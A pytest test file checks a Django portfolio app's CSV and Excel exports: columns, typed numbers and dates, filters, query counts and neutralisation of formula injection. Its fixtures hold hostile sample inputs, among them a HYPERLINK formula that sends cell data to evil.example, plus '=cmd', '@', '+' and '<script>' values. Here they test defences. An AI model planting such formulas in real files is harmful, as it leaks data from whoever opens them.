"""The portfolio's lists download as CSV and .xlsx with the page's filters: exact cells, typed numbers and dates
in the workbook, every text cell inert, the query count the same whatever the number of rows."""

from __future__ import annotations

import datetime
from decimal import Decimal

import pytest
from django.urls import reverse

from alignment.models import InitiativeScore
from core.stages import Stage
from portfolio.models import BusinessCase, Initiative
from tests.export_support import body, csv_rows, download_counts, xlsx_cells, xlsx_values
from tests.factories import (
    InitiativeFactory,
    KPIFactory,
    MilestoneFactory,
    ObjectiveFactory,
    ReadingFactory,
    UserFactory,
)

D = datetime.date
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
INITIATIVE_HEADER = [
    "code",
    "title",
    "description",
    "program",
    "category",
    "stage",
    "sponsor",
    "manager",
    "planned_start",
    "planned_end",
    "actual_start",
    "actual_end",
    "budget_capex",
    "budget_opex",
    "actual_cost",
    "forecast_cost",
    "requirements_clarity",
    "criticality",
    "sustainment_owner",
    "go_live_date",
    "urgency",
    "mandatory",
    "mandatory_reason",
    "wsjf_business_value",
    "wsjf_time_criticality",
    "wsjf_risk_reduction",
    "wsjf_job_size",
    "npv",
    "irr",
    "payback_years",
    "roi",
    # what the alignment app adds: the scores and how sure they are, the current status per dimension and the
    # review it comes from
    "alignment",
    "fit",
    "outcome",
    "delivery",
    "governance",
    "tier",
    "confidence",
    "confidence_gaps",
    "status_schedule",
    "status_cost",
    "status_scope",
    "status_benefits",
    "status_review",
]


@pytest.fixture
def register(initiative, executive):
    """Two initiatives besides ECOM-1: one Run, one whose title and description were typed as formulas."""
    InitiativeFactory(
        code="OPS-7",
        title="Keep the lights on",
        category="run",
        stage=Stage.LIVE,
        sponsor=executive,
        budget_capex=Decimal("0"),
        budget_opex=Decimal("45000.50"),
        go_live_date=D(2026, 5, 1),
    )
    InitiativeFactory(
        code="EVIL-1",
        title=HYPERLINK,
        description="-1+2\x07bell",
        sponsor=UserFactory(username="@boss"),
        forecast_cost=Decimal("-0"),
    )


def export(client, name, fmt, query=None):
    return client.get(reverse(f"portfolio:{name}-export", args=[fmt]), query or {})


def test_register_csv_holds_every_field_by_its_import_name(register, client, executive, initiative):
    # given: ECOM-1 has a business case (its stored figures: docs/business-case.md's worked example)
    client.force_login(executive)
    BusinessCase.objects.create(
        initiative=initiative,
        first_year=2026,
        npv=Decimal("114108.15"),
        irr=Decimal("0.226110"),
        payback_years=Decimal("2.7500"),
        roi=Decimal("0.512195"),
    )
    # and its status comes from the review of 1 November (EVIL-1 has none yet, OPS-7 one from the data)
    # (scores of low confidence: delivery stale and governance missing)
    InitiativeScore.objects.update_or_create(
        initiative=initiative,
        defaults={
            "status": "rgaa",
            "status_review": datetime.date(2026, 11, 1),
            "alignment": 72.5,
            "fit": 85.0,
            "outcome": 60.0,
            "delivery": 80.25,
            "tier": 2,
            "confidence": "low",
            "unsure": {"delivery": "stale", "governance": "missing"},
        },
    )
    InitiativeScore.objects.update_or_create(
        initiative=Initiative.objects.get(code="OPS-7"), defaults={"status": "gggr", "status_review": None}
    )

    # when
    response = export(client, "initiative", "csv")

    # then
    assert response["Content-Disposition"] == 'attachment; filename="bearing-initiatives.csv"'
    assert response.streaming
    rows = csv_rows(response)
    assert rows[0] == INITIATIVE_HEADER
    assert rows[1:] == [
        # sorted by code as the page is; text typed as a formula is quoted
        [
            "ECOM-1", "Checkout rebuild", "A test initiative.", "Digital commerce", "grow", "in_delivery",
            "exec", "manager", "2026-01-01", "2026-12-31", "2026-01-15", "", "100000.00", "20000.00",
            "50000.00", "", "4", "3", "", "", "", "false", "", "", "", "", "",
            "114108.15", "0.226110", "2.7500", "0.512195", "72.5", "85.0", "60.0", "80.25", "", "2", "low",
            "delivery stale; governance missing", "red", "green", "amber", "amber", "2026-11-01",
        ],
        [
            "EVIL-1", "'" + HYPERLINK, "'-1+2\x07bell", "", "grow", "in_delivery", "'@boss", "",
            "2026-01-01", "2026-12-31", "2026-01-15", "", "100000.00", "20000.00", "50000.00", "0.00",
            "4", "3", "", "", "", "false", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "",
            "", "", "", "", "",
        ],
        [
            "OPS-7", "Keep the lights on", "A test initiative.", "", "run", "live", "exec", "", "2026-01-01",
            "2026-12-31", "2026-01-15", "", "0.00", "45000.50", "50000.00", "", "4", "3", "",
            "2026-05-01", "", "false", "", "", "", "", "", "", "", "", "", "0.0", "0.0", "", "", "", "", "", "",
            "green", "green", "green", "red", "",
        ],
    ]  # fmt: skip


def test_register_xlsx_types_numbers_and_dates_and_keeps_text_inert(register, client, executive):
    # given
    client.force_login(executive)

    # when
    response = export(client, "initiative", "xlsx", {"q": "EVIL"})

    # then
    assert response["Content-Disposition"] == 'attachment; filename="bearing-initiatives.xlsx"'
    header, row = xlsx_cells(response)
    assert [cell.value for cell in header] == INITIATIVE_HEADER
    assert all(cell.font.b for cell in header)
    values = dict(zip(INITIATIVE_HEADER, row, strict=True))
    assert values["code"].value == "EVIL-1"
    # a formula typed as a title is text, never a formula cell; the bell a workbook cannot hold is dropped
    assert (values["title"].value, values["title"].data_type) == ("'" + HYPERLINK, "s")
    assert (values["description"].value, values["description"].data_type) == ("'-1+2bell", "s")
    assert values["sponsor"].value == "'@boss"
    assert (values["budget_capex"].value, values["budget_capex"].data_type) == (100000, "n")
    assert values["forecast_cost"].value == 0
    assert (values["requirements_clarity"].value, values["requirements_clarity"].data_type) == (4, "n")
    assert values["planned_start"].is_date
    assert values["planned_start"].value == datetime.datetime(2026, 1, 1)
    assert values["actual_end"].value is None


def test_register_export_applies_the_pages_filters_and_sort(register, client, executive, program):
    # given
    client.force_login(executive)

    # when
    by_category = csv_rows(export(client, "initiative", "csv", {"category": "run"}))
    by_program = xlsx_values(export(client, "initiative", "xlsx", {"program": program.pk}))
    by_stage_sorted = csv_rows(
        export(client, "initiative", "csv", {"stage": "in_delivery", "sort": "-code", "page": "1"})
    )
    searched = csv_rows(export(client, "initiative", "csv", {"q": "-checkout lights"}))

    # then
    assert [row[0] for row in by_category] == ["code", "OPS-7"]
    assert [row[0] for row in by_program] == ["code", "ECOM-1"]
    assert [row[0] for row in by_stage_sorted] == ["code", "EVIL-1", "ECOM-1"]
    assert [row[0] for row in searched] == ["code", "OPS-7"]


@pytest.mark.parametrize(
    "query",
    [{"category": "<script>"}, {"program": "99999999999999999999"}, {"sort": "password"}, {"per_page": "x"}],
)
def test_register_export_refuses_bad_filters_with_what_is_wrong(register, client, executive, query):
    # given
    client.force_login(executive)

    # when
    response = export(client, "initiative", "csv", query)

    # then
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert body(response).startswith(b"Invalid filters: ")


def test_an_unknown_format_is_not_found(register, client, executive):
    # given
    client.force_login(executive)

    # when
    response = client.get("/initiatives/export.pdf")

    # then
    assert response.status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_register_export_queries_do_not_grow_with_the_rows(db, client, executive, program, fmt):
    # given three initiatives, then forty more
    client.force_login(executive)
    people = UserFactory.create_batch(3)
    InitiativeFactory.create_batch(3, program=program, sponsor=people[0], manager=people[1])
    url = reverse("portfolio:initiative-export", args=[fmt])
    small = download_counts(client, url, {"program": program.pk})
    InitiativeFactory.create_batch(40, program=program, sponsor=people[2], manager=people[0])

    # when
    large = download_counts(client, url, {"program": program.pk})

    # then
    assert small[1] == 3
    assert large[1] == 43
    assert large[0] == small[0]


# ------------------------------------------------------------------------------------------ objectives


@pytest.fixture
def tree(db, executive):
    """Two themes weighted 3:1; the first with two objectives (1:1), one of them with a sub-objective."""
    digital = ObjectiveFactory(code="T1", title="Digital", local_weight=Decimal("3"), owner=executive)
    ObjectiveFactory(code="T2", title="=cmd", local_weight=Decimal("1"), horizon_start=D(2026, 1, 1))
    conversion = ObjectiveFactory(code="O1", title="Conversion", parent=digital)
    ObjectiveFactory(code="O2", title="Reach", parent=digital, status="retired")
    ObjectiveFactory(code="A9", title="Checkout", parent=conversion, local_weight=Decimal("2.50"))
    return {"digital": digital, "conversion": conversion}


OBJECTIVE_HEADER = [
    "code",
    "parent",
    "title",
    "description",
    "owner",
    "horizon_start",
    "horizon_end",
    "status",
    "local_weight",
    "global_weight",
]


def test_objective_export_lists_the_tree_parents_first_with_weights(tree, client, steering_member):
    # given
    client.force_login(steering_member)

    # when
    rows = csv_rows(export(client, "objective", "csv"))

    # then
    assert rows == [
        OBJECTIVE_HEADER,
        ["T1", "", "Digital", "", "exec", "", "", "active", "3.00", "0.75"],
        ["O1", "T1", "Conversion", "", "", "", "", "active", "1.00", "0.75"],
        ["A9", "O1", "Checkout", "", "", "", "", "active", "2.50", "0.75"],
        ["O2", "T1", "Reach", "", "", "", "", "retired", "1.00", "0.0"],
        ["T2", "", "'=cmd", "", "", "2026-01-01", "", "active", "1.00", "0.25"],
    ]


def test_objective_export_of_a_branch_and_as_a_workbook(tree, client, executive):
    # given
    client.force_login(executive)

    # when
    response = export(client, "objective", "xlsx", {"root": tree["conversion"].pk})

    # then
    assert response["Content-Disposition"] == 'attachment; filename="bearing-objectives-O1.xlsx"'
    rows = xlsx_cells(response)
    assert [[cell.value for cell in row] for row in rows] == [
        OBJECTIVE_HEADER,
        ["O1", "T1", "Conversion", None, None, None, None, "active", 1, 0.75],
        ["A9", "O1", "Checkout", None, None, None, None, "active", 2.5, 0.75],
    ]
    assert rows[2][8].data_type == "n"


# ------------------------------------------------------------------------------------------ KPIs, readings


@pytest.fixture
def measured(tree, pmo):
    kpi = KPIFactory(objective=tree["conversion"], name="Conversion rate", unit="%", description="+ve")
    other = KPIFactory(objective=tree["digital"], name="@Visits", unit="k", direction="decrease",
                       baseline_value=Decimal("50"), target_value=Decimal("40"))  # fmt: skip
    ReadingFactory(
        kpi=kpi, date=D(2026, 3, 31), value=Decimal("11.5"), source="Web analytics", entered_by=pmo
    )
    ReadingFactory(kpi=kpi, date=D(2026, 6, 30), value=Decimal("-12.25"), source="=SUM(A1)")
    ReadingFactory(kpi=other, date=D(2026, 6, 30), value=Decimal("48"))
    return {"kpi": kpi, "other": other}


def test_kpi_export_has_each_kpi_with_its_latest_reading(measured, client, manager):
    # given
    client.force_login(manager)

    # when
    rows = csv_rows(export(client, "kpi", "csv"))

    # then
    assert rows == [
        ["objective", "name", "description", "unit", "direction", "baseline_value", "baseline_date",
         "target_value", "target_date", "latest_value", "latest_date"],
        ["O1", "Conversion rate", "'+ve", "%", "increase", "10.0000", "2025-01-01", "20.0000", "2027-01-01",
         "-12.2500", "2026-06-30"],
        ["T1", "'@Visits", "", "k", "decrease", "50.0000", "2025-01-01", "40.0000", "2027-01-01", "48.0000",
         "2026-06-30"],
    ]  # fmt: skip


def test_kpi_export_of_an_objective_holds_its_branch(measured, tree, client, manager):
    # given
    client.force_login(manager)

    # when
    theme = xlsx_values(export(client, "kpi", "xlsx", {"objective": tree["digital"].pk}))
    objective = csv_rows(export(client, "kpi", "csv", {"objective": tree["conversion"].pk}))

    # then
    assert [row[:2] for row in theme] == [
        ["objective", "name"],
        ["O1", "Conversion rate"],
        ["T1", "'@Visits"],
    ]
    assert theme[2][5:] == [50, datetime.datetime(2025, 1, 1), 40, datetime.datetime(2027, 1, 1), 48,
                            datetime.datetime(2026, 6, 30)]  # fmt: skip
    assert [row[:2] for row in objective] == [["objective", "name"], ["O1", "Conversion rate"]]


def test_reading_export_by_kpi_keeps_negative_numbers_numbers(measured, client, executive):
    # given
    client.force_login(executive)

    # when
    all_rows = csv_rows(export(client, "reading", "csv"))
    of_kpi = xlsx_cells(export(client, "reading", "xlsx", {"kpi": measured["kpi"].pk}))

    # then
    assert all_rows == [
        ["objective", "kpi", "date", "value", "source", "entered_by"],
        ["O1", "Conversion rate", "2026-03-31", "11.5000", "Web analytics", "pmo"],
        ["O1", "Conversion rate", "2026-06-30", "-12.2500", "'=SUM(A1)", ""],
        ["T1", "'@Visits", "2026-06-30", "48.0000", "", ""],
    ]
    assert [[cell.value for cell in row] for row in of_kpi[1:]] == [
        ["O1", "Conversion rate", datetime.datetime(2026, 3, 31), 11.5, "Web analytics", "pmo"],
        ["O1", "Conversion rate", datetime.datetime(2026, 6, 30), -12.25, "'=SUM(A1)", None],
    ]
    assert (of_kpi[2][3].data_type, of_kpi[2][4].data_type) == ("n", "s")


# ------------------------------------------------------------------------------------------ milestones


def test_milestone_export_follows_the_lists_state_filter(initiative, client, executive, time_machine):
    # given today is 2026-11-21: one milestone late, one delivered on time, one not due yet
    time_machine.move_to(datetime.datetime(2026, 11, 21, 12, tzinfo=datetime.UTC))
    client.force_login(executive)
    MilestoneFactory(
        initiative=initiative, name="Design", baseline_date=D(2026, 3, 1), actual_date=D(2026, 2, 27)
    )
    MilestoneFactory(
        initiative=initiative, name="+Build", baseline_date=D(2026, 6, 1), forecast_date=D(2026, 12, 1)
    )
    MilestoneFactory(initiative=initiative, name="Launch", baseline_date=D(2027, 2, 1))  # fmt: skip

    # when
    due = csv_rows(export(client, "milestone", "csv"))  # the list's default: due
    late = xlsx_values(export(client, "milestone", "xlsx", {"state": "late"}))
    everything = csv_rows(export(client, "milestone", "csv", {"state": ""}))

    # then
    header = ["initiative", "name", "baseline_date", "forecast_date", "actual_date"]
    assert due == [
        header,
        ["ECOM-1", "'+Build", "2026-06-01", "2026-12-01", ""],
        ["ECOM-1", "Design", "2026-03-01", "", "2026-02-27"],
    ]
    assert late == [
        header,
        ["ECOM-1", "'+Build", datetime.datetime(2026, 6, 1), datetime.datetime(2026, 12, 1), None],
    ]
    assert [row[1] for row in everything] == ["name", "Launch", "'+Build", "Design"]


@pytest.mark.parametrize(
    ("name", "query"),
    [
        ("objective", {"root": "99999999999999999999"}),
        ("objective", {"root": "-1"}),
        ("kpi", {"objective": "x"}),
        ("reading", {"kpi": "1e3"}),
        ("reading", {"objective": "\x00"}),
        ("milestone", {"state": "everything"}),
    ],
)
def test_malformed_filters_get_a_400_saying_which(name, query, client, executive):
    # given
    client.force_login(executive)

    # when
    response = export(client, name, "xlsx", query)

    # then
    assert response.status_code == 400
    assert body(response).startswith(b"Invalid filters: ")
    assert not response.has_header("Content-Disposition")
